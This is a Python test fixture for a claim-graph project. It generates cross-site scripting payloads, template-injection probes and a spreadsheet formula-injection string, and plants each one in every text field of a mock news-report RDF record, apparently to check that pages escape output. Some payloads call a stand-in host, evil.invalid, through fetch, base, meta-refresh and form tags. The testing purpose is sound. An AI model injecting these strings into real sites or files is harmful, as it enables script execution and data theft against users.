"""Hostile strings: what runs in a browser where a page forgets to escape, and a report that holds one everywhere."""

from pyoxigraph import Literal, NamedNode, RdfFormat, Triple, serialize

from claimgraph.names import CG, ID, LABEL, PREFIXES, SKOS, TYPE, XSD

_CALLS = ("alert(1)", "window.hostile=1", "document.title='x'", "fetch('http://evil.invalid/')")
_FORMS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    '" autofocus onfocus={} x="',
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</option></select><script>{}</script>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
)
_OTHERS = (
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "<!-- ",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "\u200d<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=http://evil.invalid/>",
    "<style>@import 'http://evil.invalid/';</style>",
    "<link rel=stylesheet href=http://evil.invalid/>",
    "<form action=http://evil.invalid/><button>",
    "=cmd|' /C calc'!A0",
)
STRINGS = (*(form.format(call) for form in _FORMS for call in _CALLS), *_OTHERS)


def report(number: int, text: str) -> str:
    """A report that says ``text`` wherever a text can stand, and names things after it."""
    quoted = "".join(f"%{byte:02X}" for byte in text.encode())
    document, attack, outlet = (ID + f"{name}-{number}" for name in ("report", "attack", "outlet"))
    claim, coder = f"{document}/{quoted}", ID + "coder"
    said: list[tuple[str, str, NamedNode | Literal]] = [
        (document, TYPE, NamedNode(CG + "Article")),
        (document, PREFIXES["dcterms"] + "title", Literal(text, language="en")),
        (document, CG + "publisher", NamedNode(outlet)),
        (document, CG + "publishedOn", Literal("2020-01-02", datatype=NamedNode(XSD + "date"))),
        (document, CG + "url", Literal(f"https://example.org/{quoted}", datatype=NamedNode(XSD + "anyURI"))),
        (document, CG + "language", Literal("en")),
        (document, CG + "codedBy", NamedNode(coder)),
        (document, CG + "codedOn", Literal("2026-01-31", datatype=NamedNode(XSD + "date"))),
        (document, CG + "codingNote", Literal(text)),
        (coder, TYPE, NamedNode(CG + "Person")),
        (coder, LABEL, Literal("A coder", language="en")),
        (outlet, TYPE, NamedNode(CG + "MediaOrganisation")),
        (outlet, LABEL, Literal(f"{text} {number}", language="en")),
        (outlet, SKOS + "altLabel", Literal(text)),
        (attack, TYPE, NamedNode(CG + "Attack")),
        (attack, LABEL, Literal(text, language="en")),
        (claim, TYPE, NamedNode(CG + "OccurrenceClaim")),
        (claim, CG + "about", NamedNode(attack)),
        (claim, CG + "outcome", NamedNode(CG + "Happened")),
        (claim, CG + "claimant", NamedNode(outlet)),
        (claim, CG + "stance", NamedNode(CG + "Asserts")),
        (claim, CG + "certainty", NamedNode(CG + "Certain")),
        (claim, CG + "detail", Literal(text)),
        (claim, CG + "statedIn", NamedNode(document)),
        (claim, CG + "locator", Literal(text)),
    ]
    triples = [Triple(NamedNode(subject), NamedNode(predicate), value) for subject, predicate, value in said]
    return (serialize(triples, format=RdfFormat.N_TRIPLES) or b"").decode()
